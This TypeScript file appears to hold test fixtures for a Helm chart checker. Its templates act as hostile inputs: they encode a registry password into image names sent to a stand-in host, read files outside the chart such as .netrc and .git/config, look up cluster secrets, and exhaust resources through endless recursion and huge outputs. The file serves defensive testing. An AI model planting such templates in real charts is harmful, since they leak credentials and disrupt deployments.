import { CANARIES } from './canaries.ts';
import { type HostileRepository, pod, sendsAway } from './hostile-repository.ts';
import type { Machine } from './machine.ts';

/** A chart with one more template. */
function template(
  name: string,
  text: string | ((machine: Machine) => string),
  shows: HostileRepository['shows'],
  rest: Partial<HostileRepository> = {},
): HostileRepository {
  const files = (machine: Machine) => ({
    'deploy/api/templates/x.yaml': typeof text === 'string' ? text : text(machine),
    ...rest.files?.(machine),
  });
  return { name, shows, ...rest, files };
}

/** A chart that gets a secret as a value, from a configuration that the workflow’s owner wrote. */
function withSecret(
  name: string,
  text: (machine: Machine) => string,
  rest: Partial<HostileRepository> = {},
): HostileRepository {
  return template(name, text, rest.shows ?? 'REGISTRY_PASSWORD', {
    files: () => ({ 'pullproof.yaml': 'version: 1\nchart: deploy/api\nset: ["password=${REGISTRY_PASSWORD}"]\n' }),
    commands: [
      ['check', '--trust'],
      ['images', 'deploy/api', '--set', `password=${CANARIES.variable}`],
    ],
    ...rest,
  });
}

const spelled = (host: string, how: string) =>
  `{{- $s := .Values.password }}\n${pod('p', 'IMAGE').replace('"IMAGE"', `"${host}/sent/{{ ${how} }}:1"`)}`;
const dockerSecret = (host: string) => `apiVersion: v1
kind: Secret
metadata: {name: s}
type: kubernetes.io/dockerconfigjson
data:
  .dockerconfigjson: {{ printf "{\\"auths\\":{\\"${host}\\":{\\"username\\":\\"u\\",\\"password\\":\\"%s\\"}}}" .Values.password | b64enc }}
`;

/** Templates that read, send or compute what they may not. */
export const charts: readonly HostileRepository[] = [
  template('everything that a template sees', ({ known }) => sendsAway(known.host), '/sent/'),
  template(
    'paths that lead out of the chart',
    ({ known }) =>
      `{{- $x := list (.Files.Get "../../../home/secret.yaml") (.Files.Get "/etc/hostname") (.Files.Get "../../.git/config") (.Files.Lines "../../../home/.netrc") (.Files.Glob "../../../**").AsConfig }}\n${pod('p', `${known.host}/sent/x{{ len (toJson $x) }}:1`)}`,
    '/sent/x',
  ),
  template(
    'the environment',
    '{{ env "REGISTRY_PASSWORD" }}{{ expandenv "$REGISTRY_PASSWORD" }}',
    'function "env" not defined',
  ),
  template(
    'a look into the cluster and into names',
    ({ known }) =>
      pod('p', `${known.host}/sent/x{{ len (lookup "v1" "Secret" "" "") }}{{ getHostByName "owned.example" | len }}:1`),
    '/sent/x',
  ),
  template('a file behind a schema', '', 'schema', {
    files: ({ home, stranger }) => ({
      'deploy/api/values.schema.json': JSON.stringify({
        properties: { image: { $ref: `file://${home}/secret.yaml` }, b: { $ref: `${stranger.url}/schema.json` } },
      }),
    }),
  }),
  template('a file behind a dependency', '', 'deploy/api', {
    files: () => ({
      'deploy/api/Chart.yaml':
        'apiVersion: v2\nname: api\nversion: 1.0.0\ndependencies: [{name: chart, version: 1.0.0, repository: "file://../../../home/chart"}]\n',
    }),
  }),
  withSecret('a secret as it is, in an image', ({ known }) => spelled(known.host, '$s | lower')),
  withSecret('a secret in base64, in an image', ({ known }) =>
    spelled(known.host, 'printf "u:%s" $s | b64enc | lower | trimSuffix "=" | trimSuffix "="'),
  ),
  withSecret('a secret in hexadecimal, in an image', ({ known }) => spelled(known.host, 'printf "%x" $s')),
  withSecret(
    'a secret as a credential for a strange host',
    ({ stranger }) =>
      `${dockerSecret(stranger.host)}${pod('p', `${stranger.host}/private/api:1`, 'imagePullSecrets: [{name: s}]')}`,
    { shows: 'private/api:1' },
  ),
  withSecret(
    'a secret in the name of a pod and of a container',
    ({ known }) =>
      `${pod('{{ .Values.password | lower }}', `${known.host}/private/api:1`)}${pod('{{ .Values.password | b64enc }}', ':::', 'serviceAccountName: "{{ .Values.password }}"')}`,
  ),
  withSecret(
    'a secret in the words of a failure',
    () =>
      '{{ fail (printf "%s %s %x %s" .Values.password (b64enc .Values.password) .Values.password (upper .Values.password)) }}',
  ),
  withSecret(
    'a secret in YAML that is none',
    () => 'a: [{{ .Values.password }}\nb: {{ .Values.password | b64enc }}: x: }\n',
    { shows: 'render-failed' },
  ),
  withSecret('a secret as the name of a pull secret', ({ known }) =>
    pod(
      'p',
      `${known.host}/private/api:1`,
      'imagePullSecrets: [{name: "{{ printf "{auth: %s}" (b64enc .Values.password) }}"}]',
    ),
  ),
  template(
    'a login of its own for a strange host',
    ({ stranger }) =>
      `${dockerSecret(stranger.host).replace('.Values.password', '"mine"')}${pod('p', `${stranger.host}/private/api:1`, 'imagePullSecrets: [{name: s}]')}`,
    'private/api:1',
    { hasOwnCredential: true },
  ),
  template('a glob without end, in a script that rewrites files', '', '${TAG}', {
    files: ({ known }) => ({
      'scripts/deploy.sh': `sed -i s/TAG/1/ ${'*a'.repeat(40)}b.yaml deploy/api/${'{a,aa}'.repeat(40)}b.yaml\n`,
      [`deploy/api/templates/${'a'.repeat(200)}.yaml`]: pod('p', `${known.host}/sound/api:\${TAG}`),
    }),
  }),
  template(
    'a recursion without end',
    '{{ define "x" }}{{ include "x" . }}{{ end }}{{ include "x" . }}',
    'render-failed',
  ),
  template(
    'a template that makes templates',
    '{{ $t := "{{ tpl .Values.t . }}" }}{{ tpl $t (dict "Values" (dict "t" $t) "Template" .Template) }}',
    'render-failed',
  ),
  template('an output of 10 GB', '{{ range until 10000 }}{{ repeat 1000000 "x" }}{{ end }}', 'render-failed'),
  template(
    'a number that no memory holds',
    '{{ repeat 2147483647 "xxxxxxxx" }}{{ until 2147483647 }}',
    'render-failed',
  ),
  template(
    'keys of 16,384 bits',
    '{{ genPrivateKey "rsa" }}{{ (genCA "x" 1).Cert }}{{ derivePassword 1 "long" "x" "x" "x" }}',
    'render-failed',
    {
      commands: [['check', 'deploy/api', '--render-timeout', '1s']],
    },
  ),
];
